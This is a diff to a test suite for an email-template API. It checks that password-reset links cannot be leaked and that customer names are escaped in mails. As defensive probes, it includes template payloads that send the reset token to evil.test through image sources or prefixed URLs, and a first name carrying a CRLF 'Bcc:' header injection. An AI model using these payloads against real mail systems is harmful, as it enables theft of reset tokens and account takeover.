@@ -91,7 +91,7 @@ test('when a template text does not parse or uses more than placeholders, then 4
     'body/translations/en/text',
     'body/translations/not a locale',
   ]);
-  expect(byLoc['body/translations/en/subject']).toMatch(/line 1, column 6/);
+  expect(byLoc['body/translations/en/subject']).toMatch(/line 1, column 4/);
   expect(byLoc['body/translations/en/html']).toMatch(/escaped.*line 2, column 1/);
   expect(byLoc['body/translations/en/text']).toMatch(/only placeholders.*line 1, column 1/);
 });
@@ -163,6 +163,8 @@ test('when an operator edits the built-in reset mail, then the next reset mail u
   const mail = await waitFor('the edited reset mail', async () => smtp.received.find((m) => m.to.includes(email)));
   const text = decodedMessage(mail.raw);
   expect(text).toMatch(/Servus Anna: https:\/\/portal\.broker\.invalid\/reset-password\?token=/);
+  // The link's host is the service's PASSWORD_RESET_URL in both parts.
+  expect(text).toMatch(/<a href="https:\/\/portal\.broker\.invalid\/reset-password\?token=[\w-]+">hier<\/a>/);
   // The worker records the subject once the SMTP hand-off has returned, which can be a moment
   // after the sink has the message: wait for the row to say sent.
   const row = await waitFor('the reset mail recorded as sent', async () => {
@@ -174,4 +176,151 @@ test('when an operator edits the built-in reset mail, then the next reset mail u
     return found?.status === 'sent' ? found : undefined;
   });
   expect(row).toEqual({ locale: 'de-AT', subject: 'Neues Passwort für Anna', status: 'sent' });
+});
+
+describe('secret placeholders are link-only', () => {
+  const template = (key: string, en: Partial<Record<'subject' | 'html' | 'text', string>>) => ({
+    key,
+    name: key,
+    default_locale: 'en',
+    translations: {
+      en: { subject: 'Reset', html: '<a href="{{reset_url}}">Reset</a>', text: 'Open {{reset_url}}', ...en },
+    },
+  });
+
+  test('when a template editor points the reset link at another host, then the edit is 422 at that field and nothing changes', async () => {
+    const editor = await createStaff(app, ['manage_email_templates'], admin);
+    const before = (await app.request('GET', '/email-templates/password_reset', { token: editor.token })).body;
+    const en = before.translations.en;
+    const probes: Array<[string, Record<string, string>, string]> = [
+      ['html', { html: '<p><img src="https://evil.test/p.gif?u={{reset_url}}"><a href="{{reset_url}}">Reset</a></p>' }, 'html'],
+      ['html', { html: '<img src="{{reset_url}}">' }, 'html'],
+      ['html', { html: '<a href="https://evil.test/?{{reset_url}}">Reset</a>' }, 'html'],
+      ['html', { html: '<a href="https://evil.test/" href="{{reset_url}}">Reset</a>' }, 'html'],
+      ['text', { text: 'Reset here: https://evil.test/{{reset_url}}' }, 'text'],
+      ['subject', { subject: 'Reset {{reset_url}}' }, 'subject'],
+      ['html', { html: '<a href="{{{reset_url}}}">Reset</a>' }, 'html'],
+    ];
+    for (const [, change, field] of probes) {
+      const res = await app.request('PATCH', '/email-templates/password_reset', {
+        token: editor.token,
+        body: { translations: { ...before.translations, en: { ...en, ...change } } },
+      });
+      expect(res.status).toBe(422);
+      expect(res.body.detail).toEqual([
+        { loc: ['body', 'translations', 'en', field], msg: expect.any(String), type: 'value_error' },
+      ]);
+    }
+    const created = await app.request('POST', '/email-templates', {
+      token: editor.token,
+      body: template('leaky_reset', { text: 'https://evil.test/{{reset_url}}', html: '<img src="{{reset_url}}">' }),
+    });
+    expect(created.status).toBe(422);
+    expect(created.body.detail.map((d: { loc: string[] }) => d.loc.join('/')).sort()).toEqual([
+      'body/translations/en/html',
+      'body/translations/en/text',
+    ]);
+    expect(created.body.detail[0].msg).toMatch(/only be the whole href of an <a>/);
+
+    const after = (await app.request('GET', '/email-templates/password_reset', { token: editor.token })).body;
+    expect(after.translations).toEqual(before.translations);
+    expect((await app.request('GET', '/email-templates/leaky_reset', { token: editor.token })).status).toBe(404);
+  });
+
+  test('when the link is the whole href of an <a> and a word of the text, then it saves and previews', async () => {
+    const ok = await app.request('POST', '/email-templates', {
+      token: admin,
+      body: template('link_only', { html: '<p>Hi {{first_name}}</p><a href="{{reset_url}}">Reset</a>' }),
+    });
+    expect(ok.status).toBe(201);
+    const preview = await app.request('POST', '/email-templates/link_only/preview', {
+      token: admin,
+      body: { locale: 'en', sample_data: { first_name: '<b>x</b>', reset_url: 'https://portal.test/r?token=a&b' } },
+    });
+    expect(preview.body).toEqual({
+      subject: 'Reset',
+      html: '<p>Hi &lt;b&gt;x&lt;/b&gt;</p><a href="https://portal.test/r?token=a&amp;b">Reset</a>',
+      text: 'Open https://portal.test/r?token=a&b',
+      locale: 'en',
+    });
+  });
+
+  test('when a stored template places the link elsewhere, then its preview is 422 and its mail is not sent', async () => {
+    // A template saved before the rule existed (or edited in SQL) is held to it where it is used.
+    const leaky = { subject: 'Reset', html: '<img src="{{reset_url}}">', text: 'https://evil.test/{{reset_url}}' };
+    await sql(
+      app,
+      `update email_templates set translations = jsonb_set(translations, '{en}', ?::jsonb) where key = 'password_reset'`,
+      [JSON.stringify(leaky)],
+    );
+    const preview = await app.request('POST', '/email-templates/password_reset/preview', {
+      token: admin,
+      body: { locale: 'en', sample_data: { first_name: 'A', reset_url: 'https://portal.test/r' } },
+    });
+    expect(preview.status).toBe(422);
+    expect(preview.body.detail.map((d: { loc: string[] }) => d.loc.join('/'))).toEqual([
+      'path/template_id/translations/en/html',
+      'path/template_id/translations/en/text',
+    ]);
+
+    const email = `leak-${Date.now()}@broker.test`;
+    await app.request('POST', '/api/crm/customers', {
+      token: admin,
+      body: { email, password: 'Quartz-river-lantern-27', first_name: 'Lea', last_name: 'Kurz', locale: 'en' },
+    });
+    expect((await app.request('POST', '/customers/password-reset/forgot', { body: { email } })).status).toBe(202);
+    const row = await waitFor('the leaky reset mail to fail', async () => {
+      const [found] = await sql<{ status: string; last_error: string }>(
+        app,
+        'select status, last_error from mail_messages where to_address = ?',
+        [email],
+      );
+      return found?.status === 'failed' ? found : undefined;
+    });
+    expect(row.last_error).toMatch(/breaks a rule.*reset_url/);
+    expect(smtp.received.some((m) => m.to.includes(email))).toBe(false);
+    await app.request('PATCH', '/email-templates/password_reset', {
+      token: admin,
+      body: { translations: Object.fromEntries(Object.entries(MAIL_TEMPLATES[0]!.translations)) },
+    });
+  });
+});
+
+describe('customer names in mails', () => {
+  async function resetMailFor(first_name: string, subject: string) {
+    await app.request('PATCH', '/email-templates/password_reset', {
+      token: admin,
+      body: {
+        translations: {
+          ...MAIL_TEMPLATES[0]!.translations,
+          en: { ...MAIL_TEMPLATES[0]!.translations.en!, subject, html: MAIL_TEMPLATES[0]!.translations.en!.html! },
+        },
+      },
+    });
+    const email = `name-${Date.now()}-${Math.random().toString(16).slice(2)}@broker.test`;
+    const created = await app.request('POST', '/api/crm/customers', {
+      token: admin,
+      body: { email, password: 'Quartz-river-lantern-27', first_name: 'Placeholder', last_name: 'Name', locale: 'en' },
+    });
+    expect(created.status).toBe(201);
+    // Written straight to the table: a name stored before names were checked.
+    await sql(app, 'update customers set first_name = ? where email = ?', [first_name, email]);
+    expect((await app.request('POST', '/customers/password-reset/forgot', { body: { email } })).status).toBe(202);
+    return waitFor('the reset mail', async () => smtp.received.find((m) => m.to.includes(email)));
+  }
+
+  test('when a name holds markup, then the mail html shows it escaped', async () => {
+    const mail = await resetMailFor('<b>x</b>', 'Reset your password');
+    const raw = decodedMessage(mail.raw);
+    expect(raw).toContain('<p>Hello &lt;b&gt;x&lt;/b&gt;,</p>');
+    expect(raw).not.toContain('<p>Hello <b>x</b>');
+  });
+
+  test('when a stored name holds a line break, then the subject stays one header line', async () => {
+    const mail = await resetMailFor('a\r\nBcc: spy@evil.test', 'Reset for {{first_name}}');
+    expect(mail.to).toHaveLength(1);
+    const headers = mail.raw.slice(0, mail.raw.search(/\r?\n\r?\n/));
+    expect(headers).not.toMatch(/^Bcc:/im);
+    expect(headers).toMatch(/^Subject: Reset for a Bcc: spy@evil\.test\r?$/im);
+  });
 });
